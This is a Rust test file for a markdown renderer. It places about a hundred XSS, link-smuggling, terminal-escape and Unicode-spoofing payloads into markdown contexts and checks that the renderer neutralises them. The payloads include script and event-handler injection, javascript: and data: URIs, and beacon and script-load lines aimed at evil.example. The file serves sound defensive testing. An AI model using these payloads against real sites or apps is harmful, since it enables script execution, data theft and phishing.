//! Payloads times the places they can stand in.

use crate::{checker, streamed};
use markdown::render;

/// One for each way in that we know: elements, handlers, foreign content, broken syntax, addresses,
/// references, characters.
const PAYLOADS: &[&str] = &[
    "<script>boom()</script>",
    "<ScRiPt >boom()</sCrIpT\t>",
    "<script/src=//evil.example/a.js>",
    "<img src=x onerror=boom()>",
    "<img/src=`x`onerror=boom()>",
    "<svg onload=boom()>",
    "<svg><style><!--</style><img src=x onerror=boom()>",
    "<math><mtext></p><style><a title=\"</style><img onerror=boom()>\">",
    "<iframe srcdoc='<script>boom()</script>'></iframe>",
    "<object data=data:text/html,boom></object>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>@import '//evil.example'</style>",
    "<form action=//evil.example><button>Enter your key</button></form>",
    "<input autofocus onfocus=boom()>",
    "<details open ontoggle=boom()>",
    "<a href=javascript:boom()>x</a>",
    "<a id=__TAURI__ name=body>x</a>",
    "<!-- --!><img onerror=boom()>",
    "<![CDATA[<img onerror=boom()>]]>",
    "<?php boom() ?>",
    "<!DOCTYPE html><body onload=boom()>",
    "</code></pre></div><script>boom()</script>",
    "</p></td></tr></table><img onerror=boom()>",
    "<noscript><p title=\"</noscript><img onerror=boom()>\">",
    "<template><script>boom()</script></template>",
    "<textarea></textarea><script>boom()</script>",
    "\"><img onerror=boom()>",
    "' onmouseover='boom()",
    "x\" onload=\"boom()",
    "&lt;script&gt;boom()&lt;/script&gt;",
    "&#60;script&#62;boom()&#x3c;/script&#x3e;",
    "[a](javascript:boom())",
    "[a](JaVaScRiPt:boom())",
    "[a](java&#10;script:boom())",
    "[a](java&Tab;script:boom())",
    "[a](javascript&colon;boom())",
    "[a](<java\tscript:boom()>)",
    "[a](\\javascript:boom())",
    "[a](%6aavascript:boom())",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:boom)",
    "[a](file:///etc/passwd)",
    "[a](blob:https://x/1)",
    "[a](tauri://localhost/)",
    "[a](ipc://localhost/x)",
    "[a](ms-msdt:/id)",
    "[a](smb://evil/x)",
    "[a](\\\\\\\\evil\\\\share)",
    "[a](//evil.example)",
    "[a](/etc/passwd)",
    "[a](https://good.example@evil.example/)",
    "[a](https://@evil.example/)",
    "[a](https:evil.example)",
    "[a](https:///evil.example)",
    "[a](https:/\\evil.example)",
    "[a](https://a.example/\u{202E}gpj.exe)",
    "[a](https://a.example/&#x202e;x)",
    "[a](https://a.example/\"onload=boom())",
    "[a](https://a.example \"title\\\" onload=boom()\")",
    "[a](<https://a.example/><script>boom()</script>)",
    "[https://good.example](https://evil.example)",
    "[a [b](https://b.example)](https://c.example)",
    "[![x](https://a.example/i.png)](https://b.example)",
    "![x](https://evil.example/beacon?q=secret)",
    "![x](data:image/svg+xml,<svg/onload=boom()>)",
    "![x\" onerror=\"boom()](https://a.example)",
    "![<img onerror=boom()>](https://a.example)",
    "![a][b]\n\n[b]: https://evil.example/beacon",
    "[b]: javascript:boom()\n\n[a][b]",
    "<javascript:boom()>",
    "<https://a.example/<script>>",
    "<https://a@b.example>",
    "<a@b.example\" onload=boom()>",
    "https://a.example/<script>boom()</script>",
    "https://a.example/\"onmouseover=boom()",
    "https://user:pass@evil.example/",
    "[^x\" onload=boom()]\n\n[^x\" onload=boom()]: y",
    "[^body]\n\n[^body]: [^<b>] <b>",
    "[^a",
    "\u{FDD0}script\u{FDD1}boom\u{FDD2}\u{FDD3}",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "\x1b]52;c;Ym9vbQ==\x07\u{9b}31m\x08\x08\0",
    "admin\u{202E}\u{2066}nimda\u{2069}",
    "a\u{200B}b\u{FEFF}c\u{E0041}\u{E0042}",
    "$\\text{<script>boom()</script>}$",
    "$$\n</code><script>boom()</script>\n$$",
    "```x\" onload=\"boom()\ncode\n```",
    "```html\n<script>boom()</script>\n```",
    "~~~ <script>\n</code>\n~~~",
    "`<script>` `` ` `` `\u{202E}`",
    "- [x] <input type=checkbox>\n- [ ] y",
    "| <b> | [x](javascript:y) |\n|--|--|\n| <i> | `|` |",
    "# <h1 id=x> {#id .class onload=boom()}",
];

/// Places, `@` being the payload.
const PLACES: &[&str] = &[
    "@",
    "words @ words",
    "- item\n- @\n  - @",
    "> @\n> > @",
    "| a | b |\n|---|:-:|\n| @ | x |\n",
    "```rust\n@\n```",
    "```@\ncode\n```",
    "    @",
    "`@`",
    "# @",
    "[@](https://a.example)",
    "[a](@)",
    "[a](https://a.example \"@\")",
    "![@](https://a.example/i.png)",
    "![a](@)",
    "**@** ~~@~~",
    "1. step\n\n   ```sh\n   @\n   ```",
    "[^1]: @\n\n[^1]",
    "$@$",
    "<@>",
];

fn corpus() -> impl Iterator<Item = String> {
    PLACES
        .iter()
        .flat_map(|place| PAYLOADS.iter().map(move |p| place.replace('@', p)))
}

#[test]
fn nothing_hostile_gets_past_the_writer() {
    assert!(corpus().count() >= 200);
    for text in corpus() {
        render(&text).iter().for_each(|block| checker::check(block));
    }
}

#[test]
fn no_cut_of_a_hostile_text_shows_more_than_the_whole() {
    let cuts = |text: &str| text.char_indices().map(|(at, _)| at).collect::<Vec<_>>();
    for text in corpus() {
        let pieces = cuts(&text)
            .into_iter()
            .map(|at| &text[at..text[at..].ceil_char_boundary(1) + at]);
        assert_eq!(streamed(pieces), render(&text), "{text:?}");
    }
    for text in PAYLOADS {
        for at in cuts(text) {
            assert_eq!(
                streamed([&text[..at], &text[at..]]),
                render(text),
                "at {at} of {text:?}"
            );
        }
    }
}

#[test]
fn only_plain_web_and_mail_addresses_can_be_opened() {
    let open = |text: &str| render(text).concat().contains("data-href");
    for payload in PAYLOADS
        .iter()
        .filter(|p| p.starts_with("[a](") || p.starts_with("<javascript"))
    {
        // What follows the target is a title, which is dropped, or text.
        let known = [
            "[a](https://a.example \"title\\\" onload=boom()\")",
            "[a](<https://a.example/><script>boom()</script>)",
        ];
        assert_eq!(open(payload), known.contains(payload), "{payload:?}");
    }
    for good in [
        "[a](https://a.example)",
        "<http://a.example/x?y#z>",
        "<mailto:a@b.example>",
        "<a@b.example>",
        "see https://a.example.",
    ] {
        assert!(open(good), "{good:?}");
    }
    assert!(
        !open(&format!("[a](https://a.example/{})", "x".repeat(2048))),
        "over 2 KiB"
    );
}

#[test]
fn the_address_that_opens_is_the_one_that_shows_its_true_host() {
    let html = render("[ok](https://ex\u{0430}mple.com)").concat();
    assert!(
        html.contains("data-href=\"https://xn--exmple-4nf.com/\""),
        "{html}"
    );
}
